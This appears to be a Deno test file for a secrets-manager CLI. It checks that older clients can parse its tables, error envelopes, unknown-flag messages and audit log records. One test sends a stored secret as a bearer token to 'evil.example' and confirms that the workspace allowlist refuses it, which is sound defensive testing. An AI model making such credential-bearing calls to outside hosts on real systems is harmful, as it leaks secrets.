/**
 * What programs written for the original read of the text output, read here in their manner: ANSI stripped, tables split at
 * `│`, one key name first on a line, records as JSON lines.
 */
import assert from "node:assert/strict";
import { sandboxWithProject } from "../support/cli.ts";

/** The rows of a table with borders: cells between bars, empty border cells dropped, lines of borders skipped. */
function rowsOf(text: string): string[][] {
  // deno-lint-ignore no-control-regex -- escape sequences are what is stripped
  const lines = text.replace(/\u001b\[[0-9;]*[A-Za-z]/g, "").split("\n");
  return lines
    .filter((line) => line.includes("│"))
    .map((line) => line.split("│").map((cell) => cell.trim()).filter((cell) => cell !== ""));
}

Deno.test("existing clients read projects, allowlists, workspaces, members and key names from the text", async () => {
  await using sandbox = await sandboxWithProject();
  await sandbox.allow("api.stripe.com");
  await sandbox.ok(["secrets", "set", "STRIPE_KEY=a long enough value", "OTHER=a long enough value"]);

  assert.deepEqual(rowsOf(await sandbox.ok(["project", "list"])), [
    ["Project", "Workspace", "Description"],
    ["my-app", "Personal", "—"],
  ]);
  const [header, row] = rowsOf(await sandbox.ok(["workspace", "allowlist", "list"]));
  assert.deepEqual(header, ["Domain", "Added By", "Added At"]);
  assert.deepEqual(row!.slice(0, 2), ["api.stripe.com", "you@example.com"]);

  assert.deepEqual(/^→ (.+) \((\w+)\)$/.exec((await sandbox.ok(["workspace", "list"])).trim())?.slice(1), [
    "Personal",
    "personal",
  ]);
  assert.match(await sandbox.ok(["workspace", "members"]), /^\S+@\S+ \(owner\) active$/m);

  const keys = (await sandbox.ok(["secrets", "list"])).split("\n").filter((line) =>
    line !== "" && !/^(Key|─)/.test(line)
  );
  assert.deepEqual(keys.map((line) => line.trim().split(/\s+/)[0]), ["OTHER", "STRIPE_KEY"]);
});

Deno.test("existing clients find --output in call's help, and classify refusals by the envelope and by stderr", async () => {
  await using sandbox = await sandboxWithProject();
  assert.ok((await sandbox.ok(["call", "--help"])).includes("--output"));
  await sandbox.ok(["secrets", "set", "KEY=a long enough value"]);

  const blocked = await sandbox.run([
    "call",
    "--url",
    "https://evil.example/x",
    "--method",
    "GET",
    "--bearer",
    "KEY",
    "--output",
    "json",
  ]);
  const envelope = JSON.parse(blocked.stdout);
  const inner = JSON.parse(envelope.body);
  assert.ok(blocked.code !== 0 && ["domain_not_in_allowlist", "empty_allowlist"].includes(inner.error));
  assert.equal(inner.domain, "evil.example");
  const text = await sandbox.run(["call", "--url", "https://evil.example/x", "--bearer", "KEY"]);
  assert.ok(text.stderr.toLowerCase().includes("workspace allowlist"));

  await sandbox.allow("api.stripe.com");
  const missing = await sandbox.run([
    "call",
    "--url",
    "https://api.stripe.com/",
    "--bearer",
    "GONE",
    "--output",
    "json",
  ]);
  assert.match(JSON.parse(missing.stdout).error, /secret 'GONE' not found in keychain/);
});

Deno.test("existing clients fall back to text when they see the words `unknown flag`", async () => {
  await using sandbox = await sandboxWithProject();
  const { code, stderr } = await sandbox.run(["workspace", "list", "--outputs", "json"]);
  assert.ok(code !== 0 && stderr.toLowerCase().includes("unknown flag"));
});

Deno.test("existing clients read audit records as JSON lines with the members they know", async () => {
  await using sandbox = await sandboxWithProject();
  await sandbox.ok(["secrets", "set", "KEY=a long enough value"]);
  await sandbox.ok(["env", "--", "true"]);
  const lines = (await sandbox.ok(["proxy", "logs", "--last", "20", "--secret", "KEY"])).trimEnd().split("\n");
  const record = JSON.parse(lines[0]!);
  assert.match(record.timestamp, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}\+00:00$/);
  for (
    const member of [
      "secret_keys",
      "method",
      "target_url",
      "auth_styles",
      "status_code",
      "duration_ms",
      "status",
      "reason",
    ]
  ) {
    assert.ok(member in record, member);
  }
});
